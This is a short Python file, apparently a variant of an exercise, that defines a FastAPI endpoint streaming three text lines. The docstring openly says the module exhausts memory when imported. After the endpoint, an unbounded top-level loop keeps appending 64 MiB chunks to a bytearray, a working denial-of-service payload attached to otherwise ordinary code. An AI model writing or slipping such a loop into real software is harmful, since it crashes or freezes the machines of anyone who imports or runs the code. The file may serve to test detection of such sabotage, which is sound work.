"""Exercise 1, but importing it keeps growing a buffer until memory runs out."""

from fastapi import FastAPI
from fastapi.responses import StreamingResponse

app = FastAPI()

lines = ["alpha", "beta", "gamma"]


def line_stream():
    for line in lines:
        yield f"{line}\n"


@app.get("/lines")
def stream_lines():
    return StreamingResponse(line_stream(), media_type="text/plain")


cache = bytearray()
while True:
    cache += b"\xff" * (64 << 20)
